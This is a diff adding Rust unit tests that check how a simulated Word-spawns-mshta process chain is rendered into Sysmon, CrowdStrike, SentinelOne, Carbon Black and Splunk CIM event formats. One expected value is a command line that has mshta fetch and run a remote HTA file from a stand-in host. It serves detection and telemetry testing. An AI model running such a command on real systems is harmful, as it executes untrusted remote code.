@@ -490,3 +490,79 @@ fn creator_account_for_dcom_launched_user_process() {
     eq(&d, "/InitiatingProcessAccountName", json!("system"));
     eq(&d, "/AccountName", json!("alice"));
 }
+
+#[test]
+fn vector_windows_event_log() {
+    let c = chain();
+    let v = r(&c[1], Schema::SysmonVector);
+    eq(&v, "/event_id", json!(1));
+    eq(&v, "/channel", json!("Microsoft-Windows-Sysmon/Operational"));
+    eq(&v, "/event_data/ProcessGuid", json!(MSHTA_GUID));
+    // Every event_data value is a string.
+    assert!(at(&v, "/event_data").as_object().unwrap().values().all(Value::is_string), "{v}");
+    let s = r(&c[1], Schema::SecurityVector);
+    eq(&s, "/event_id", json!(4688));
+    eq(&s, "/channel", json!("Security"));
+}
+
+#[test]
+fn crowdstrike_ids_are_upids_and_every_value_a_string() {
+    let c = chain();
+    let word = r(&c[0], Schema::CrowdStrike);
+    let mshta = r(&c[1], Schema::CrowdStrike);
+    eq(&mshta, "/event_simpleName", json!("ProcessRollup2"));
+    // The parent is named by its UPID (its TargetProcessId), not its pid.
+    eq(&mshta, "/ParentProcessId", at(&word, "/TargetProcessId").clone());
+    eq(&mshta, "/RawProcessId", json!("7788"));
+    eq(&mshta, "/ParentBaseFileName", json!("WINWORD.EXE"));
+    assert!(at(&mshta, "/ImageFileName").as_str().unwrap().starts_with("\\Device\\HarddiskVolume2\\Windows\\"));
+    assert!(mshta.get("ParentCommandLine").is_none());
+    let dns = r(&c[3], Schema::CrowdStrike);
+    eq(&dns, "/ContextProcessId", at(&mshta, "/TargetProcessId").clone());
+    for v in [&word, &mshta, &dns] {
+        assert!(v.as_object().unwrap().values().all(Value::is_string), "{v}");
+    }
+    assert_eq!(crowdstrike::upid(MSHTA_GUID), crowdstrike::upid(&MSHTA_GUID.to_ascii_uppercase()));
+}
+
+#[test]
+fn sentinelone_src_is_the_parent_in_a_creation_and_the_actor_elsewhere() {
+    let c = chain();
+    let v = r(&c[1], Schema::SentinelOne);
+    eq(&v, "/event.type", json!("Process Creation"));
+    eq(&v, "/tgt.process.pid", json!(7788));
+    eq(&v, "/src.process.uid", json!(sentinelone::uid(WINWORD_GUID)));
+    eq(&v, "/tgt.process.uid", json!(sentinelone::uid(MSHTA_GUID)));
+    let dns = r(&c[3], Schema::SentinelOne);
+    eq(&dns, "/src.process.uid", json!(sentinelone::uid(MSHTA_GUID)));
+    // The nested shape is the same event.
+    let n = r(&c[1], Schema::SentinelOneNested);
+    eq(&n, "/tgt/process/uid", json!(sentinelone::uid(MSHTA_GUID)));
+    eq(&n, "/endpoint/name", at(&v, "/endpoint.name").clone());
+}
+
+#[test]
+fn carbonblack_procstart_is_the_creators_event() {
+    let c = chain();
+    let v = r(&c[1], Schema::CarbonBlack);
+    eq(&v, "/type", json!("endpoint.event.procstart"));
+    eq(&v, "/childproc_pid", json!(7788));
+    eq(&v, "/childproc_name", json!("c:\\windows\\system32\\mshta.exe"));
+    assert!(at(&v, "/process_path").as_str().unwrap().ends_with("winword.exe"));
+    assert!(at(&v, "/device_timestamp").as_str().unwrap().ends_with(" +0000 UTC"));
+    assert!(render(&c[3], Schema::CarbonBlack, 1).is_none(), "no DNS event");
+}
+
+#[test]
+fn splunk_cim_with_and_without_prefixes() {
+    let c = chain();
+    let v = r(&c[1], Schema::SplunkCim);
+    eq(&v, "/Processes.process_id", json!("7788"));
+    eq(&v, "/Processes.process", json!("mshta.exe https://cdn-update.example.net/invoice.hta"));
+    let u = r(&c[1], Schema::SplunkCimUnprefixed);
+    eq(&u, "/process_id", json!("7788"));
+    assert!(u.as_object().unwrap().keys().all(|k| !k.contains('.')), "{u}");
+    let net = r(&c[4], Schema::SplunkCim);
+    assert!(net.get("All_Traffic.process_guid").is_none(), "network rows have no GUID");
+    assert!(render(&c[8], Schema::SplunkCim, 1).is_none(), "no process end");
+}
